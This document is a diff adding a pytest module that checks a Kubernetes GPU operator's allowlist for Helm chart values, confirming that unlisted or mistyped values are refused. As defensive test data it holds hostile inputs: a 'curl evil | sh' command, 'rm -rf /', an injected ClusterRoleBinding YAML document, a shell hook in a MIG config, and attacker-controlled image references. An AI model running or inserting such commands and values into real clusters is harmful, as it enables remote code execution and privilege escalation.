@@ -1,0 +1,300 @@
+"""spec.values takes only the chart values of values-rules/values-allowlist.yaml (api/values.py).
+
+The API server's side of the same list (the CRD's schema generated from it) is
+tests/integration/test_values_allowlist.py; the schema itself, tests/unit/test_crd.py.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import tarfile
+from collections.abc import Iterator
+from functools import cache
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from pydantic import ValidationError
+
+from kyma_gpu.api.admission import admission_message
+from kyma_gpu.api.models import GpuSpec
+from kyma_gpu.api.values import (
+    NOT_LISTED,
+    PRUNED,
+    PYTHON_TYPES,
+    Allowed,
+    ValueType,
+    allowlist,
+    parse_allowlist,
+    pruned_error,
+    unlisted_managed_values,
+    values_error,
+)
+from kyma_gpu.facts.gpu import gpu_object
+
+ROOT = Path(__file__).resolve().parents[2]
+CHARTS = ROOT.parent / "shared" / "charts"
+VALIDATOR_IMAGE = {
+    "validator": {"cuda": {"env": [{"name": "VALIDATOR_IMAGE", "value": "evil.example/x:1"}]}}
+}
+"""The finding of issue 43: the CUDA validator ran the Gpu editor's image, privileged."""
+
+
+def nested(path: tuple[str, ...], leaf: Any) -> dict[str, Any]:
+    node: Any = leaf
+    for key in reversed(path):
+        node = {key: node}
+    result: dict[str, Any] = node
+    return result
+
+
+def refusal(values: Any) -> str:
+    with pytest.raises(ValidationError) as caught:
+        GpuSpec.model_validate({"values": values})
+    return admission_message(caught.value)
+
+
+def test_the_validator_image_env_entry_is_refused_naming_the_key() -> None:
+    message = refusal(VALIDATOR_IMAGE)
+    assert message.startswith("spec.values.validator.cuda: Invalid value: "), message
+    assert NOT_LISTED in message
+    assert "values-rules/values-allowlist.yaml" in message
+
+
+@pytest.mark.parametrize(
+    "values",
+    [
+        {"operator": {"env": [{"name": "DRIVER_MANAGER_IMAGE", "value": "evil"}]}},
+        {"draDriver": {"env": []}},
+        {"driver": {"manager": {"env": []}}},
+        {"toolkit": {"installDir": "/tmp/evil"}},
+        {"hostPaths": {"rootFS": "/tmp"}},
+        {"dcgmExporter": {"hpcJobMapping": {"directory": "/etc"}}},
+        {"dcgmExporter": {"hostPID": True}},
+        {"daemonsets": {"annotations": {"sidecar.istio.io/inject": "true"}}},
+        {"daemonsets": {"labels": {"app": "x"}}},
+        {"node-feature-discovery": {"worker": {"config": {"sources": {}}}}},
+        {"node-feature-discovery": {"master": {"extraLabelNs": ["nvidia.com"]}}},
+        {"nfd": {"nodefeaturerules": True}},
+        {"devicePlugin": {"config": {"name": "x"}}},
+        {"migManager": {"gpuClientsConfig": {"name": "x"}}},
+        {"extraObjects": []},
+        {"psa": {"enabled": True}},
+        {"operator": {"repository": "evil.example"}},
+        {"validator": {"args": ["--evil"]}},
+        {"driver": {"repoConfig": {"configMapName": "x"}}},
+    ],
+    ids=lambda v: json.dumps(v)[:48],
+)
+def test_doors_of_earlier_reviews_and_their_kin_are_refused(values: dict[str, Any]) -> None:
+    assert NOT_LISTED in refusal(values)
+
+
+def test_a_listed_value_of_the_wrong_type_is_refused_with_its_type() -> None:
+    message = refusal({"operator": {"resources": {"requests": {"nvidia.com/gpu": 1}}}})
+    assert "spec.values.operator.resources.requests.nvidia.com/gpu" in message, message
+    assert "a Resources value" in message
+
+
+@pytest.mark.parametrize(
+    ("value_type", "good"),
+    [
+        (ValueType.RESOURCES, {"requests": {"cpu": "250m", "memory": 268435456}}),
+        (ValueType.TOLERATIONS, [{"key": "dedicated", "operator": "Equal", "value": "gpu"}]),
+        (ValueType.PRIORITY_CLASS_NAME, "system-node-critical"),
+        (ValueType.PULL_POLICY, "IfNotPresent"),
+        (ValueType.BOOLEAN, True),
+        (ValueType.UPDATE_STRATEGY, "OnDelete"),
+        (ValueType.MAX_UNAVAILABLE, "25%"),
+        (ValueType.LOG_LEVEL, "debug"),
+        (ValueType.DURATION, "1m30s"),
+        (ValueType.LABELS, {"release": "prometheus", "example.com/team": "ml"}),
+        (ValueType.CONFIG_MAP_NAME, "custom-dcgm-metrics"),
+        (ValueType.MIG_CONFIG_NAME, "all-1g.10gb"),
+        (ValueType.DCGM_METRICS, "# clocks\nDCGM_FI_DEV_SM_CLOCK, gauge, SM clock (in MHz).\n"),
+        (
+            ValueType.MIG_CONFIG,
+            "version: v1\nmig-configs:\n  all-disabled:\n  - devices: all\n"
+            "    mig-enabled: false\n",
+        ),
+    ],
+)
+def test_each_type_takes_what_users_write(value_type: ValueType, good: Any) -> None:
+    from pydantic import TypeAdapter
+
+    TypeAdapter(PYTHON_TYPES[value_type]).validate_python(good, strict=True)
+
+
+HOSTILE = (
+    "nvcr.io/evil/validator:latest",
+    "/etc/kubernetes",
+    "sh -c 'curl evil | sh'",
+    "IfNotPresent\n---\nkind: ClusterRoleBinding",
+    "x\u2028y",
+    "a" * 70000,
+)
+"""An image, a host path, a command, a YAML document, a line separator, a flood."""
+
+
+@pytest.mark.parametrize("value_type", list(ValueType))
+def test_no_type_takes_an_image_a_path_or_a_command(value_type: ValueType) -> None:
+    from pydantic import TypeAdapter
+
+    adapter = TypeAdapter(PYTHON_TYPES[value_type])
+    for hostile in HOSTILE:
+        for shape in (hostile, [hostile], {"x": hostile}, {hostile: "x"}, [{"key": hostile}]):
+            try:
+                adapter.validate_python(shape, strict=True)
+            except ValidationError:
+                continue
+            raise AssertionError(f"{value_type} takes {shape!r:.80}")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "version: v1\nhooks:\n  apply-start: [sh, -c, evil]\n",
+        "version: v1\n---\nmig-configs: {}\n",
+        "{version: v1, mig-configs: {}}\n",
+        "version: v1\r\nmig-configs: {}\n",
+    ],
+)
+def test_the_mig_layouts_text_names_only_mig_layouts(text: str) -> None:
+    values = {"migManager": {"config": {"data": {"config.yaml": text}}}}
+    assert "mig-parted's file with only" in refusal(values)
+
+
+def test_the_dcgm_metrics_text_is_a_metrics_list() -> None:
+    values = {"dcgmExporter": {"config": {"data": "DCGM_FI_DEV_SM_CLOCK, gauge, x\nrm -rf /\n"}}}
+    assert "CSV lines" in refusal(values)
+
+
+def test_nulls_are_dropped_as_the_api_server_drops_them() -> None:
+    spec = GpuSpec.model_validate({"values": {"toolkit": None, "driver": {"rdma": None}}})
+    assert spec.values == {"driver": {}}
+
+
+def test_a_path_listed_twice_is_an_error_of_the_list() -> None:
+    entry = {"why": "a reason for it", "type": "Boolean", "paths": [["a", "b"], ["a", "b"]]}
+    with pytest.raises(ValueError, match="listed twice"):
+        parse_allowlist({"charts": ["v1.0.0"], "values": [entry]})
+
+
+def test_the_list_names_the_supported_charts() -> None:
+    shipped = sorted(p.stem for p in (ROOT / "values-rules" / "charts").glob("v*.yaml"))
+    assert sorted(allowlist().charts) == shipped
+
+
+# --- every listed path holds in every supported chart --------------------------------------
+
+
+@cache
+def chart_files(version: str) -> tuple[dict[str, Any], dict[str, Any], str]:
+    """The chart's values.yaml, its NFD subchart's, and the text of all templates."""
+    chart = CHARTS / f"gpu-operator-{version}.tgz"
+    if not chart.is_file():
+        pytest.fail(f"{chart} is missing: ../shared/charts holds the supported charts")
+    values: dict[str, Any] = {}
+    nfd: dict[str, Any] = {}
+    templates: list[str] = []
+    with tarfile.open(chart) as archive:
+        for member in archive.getmembers():
+            name = member.name
+            handle = archive.extractfile(member) if member.isfile() else None
+            if handle is None:
+                continue
+            if name == "gpu-operator/values.yaml":
+                values = yaml.safe_load(handle)
+            elif name == "gpu-operator/charts/node-feature-discovery/values.yaml":
+                nfd = yaml.safe_load(handle)
+            elif "/templates/" in name:
+                templates.append(handle.read().decode())
+    return values, nfd, "\n".join(templates)
+
+
+def _holds(values: dict[str, Any], path: tuple[str, ...], templates: str) -> bool:
+    """The chart sets a default there (or leaves an open map above it), or a template reads
+    it (`.Values.a.b`, or prints a whole map above it with toYaml)."""
+    node: Any = values
+    for depth, key in enumerate(path):
+        if isinstance(node, dict) and key in node:
+            node = node[key]
+            continue
+        if isinstance(node, dict) and not node and depth:
+            return True  # an open map of the chart's (config data: file name -> text)
+        break
+    else:
+        return True
+    dotted = ".".join(path)
+    prefixes = (".".join(path[:i]) for i in range(1, len(path)))
+    return f".Values.{dotted}" in templates or any(
+        re.search(rf"toYaml \.Values\.{re.escape(p)} ", templates) for p in prefixes
+    )
+
+
+def _listed() -> Iterator[tuple[str, Allowed]]:
+    for version in allowlist().charts:
+        for allowed in allowlist().values:
+            yield version, allowed
+
+
+@pytest.mark.parametrize(("version", "allowed"), list(_listed()), ids=str)
+def test_each_listed_path_holds_in_each_supported_chart(version: str, allowed: Allowed) -> None:
+    values, nfd, templates = chart_files(version)
+    if allowed.path[0] == "node-feature-discovery":
+        assert _holds(nfd, allowed.path[1:], templates), f"{allowed.dotted} in NFD@{version}"
+    else:
+        assert _holds(values, allowed.path, templates), f"{allowed.dotted} in {version}"
+
+
+def _leaves(node: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
+    if isinstance(node, dict) and node:
+        for key, child in node.items():
+            yield from _leaves(child, (*path, str(key)))
+    else:
+        yield path
+
+
+@pytest.mark.parametrize("version", sorted(allowlist().charts))
+def test_every_other_value_of_the_charts_is_refused(version: str) -> None:
+    """Every leaf of both values.yaml files: listed (and then typed), or refused by name."""
+    values, nfd, _ = chart_files(version)
+    leaves = [*_leaves(values), *(("node-feature-discovery", *p) for p in _leaves(nfd))]
+    listed = {a.path for a in allowlist().values}
+    refused = 0
+    for leaf in leaves:
+        if any(leaf[: len(p)] == p for p in listed):
+            continue
+        error = values_error(nested(leaf, "x"))
+        assert error is not None, leaf
+        refused += error.message == NOT_LISTED  # else: a map of listed values, not a string
+    assert refused > 300, refused  # each chart refuses some 370 to 450 leaves by name
+
+
+# --- a Gpu written before the list narrowed ------------------------------------------------
+
+
+def managed(values_fields: dict[str, Any]) -> list[dict[str, Any]]:
+    fields = {"f:spec": {"f:values": values_fields}, "f:metadata": {"f:labels": {}}}
+    return [{"manager": "kubectl-client-side-apply", "fieldsV1": fields}]
+
+
+def test_managed_fields_name_a_pruned_value() -> None:
+    fields = {"f:validator": {"f:cuda": {"f:env": {}}}, "f:operator": {"f:resources": {}}}
+    assert unlisted_managed_values(managed(fields)) == ["spec.values.validator.cuda"]
+    assert unlisted_managed_values(managed({"f:operator": {"f:resources": {".": {}}}})) == []
+    assert unlisted_managed_values(None) == []
+
+
+def test_a_gpu_with_a_pruned_value_is_invalid_in_the_api_servers_words() -> None:
+    body = {
+        "metadata": {"name": "gpu", "uid": "u", "managedFields": managed({"f:hostPaths": {}})},
+        "spec": {},
+    }
+    gpu = gpu_object(body)
+    assert gpu.pruned_values == ("spec.values.hostPaths",)
+    message = admission_message(pruned_error(gpu.pruned_values))
+    assert message.startswith("spec.values.hostPaths: Invalid value: "), message
+    assert PRUNED in message
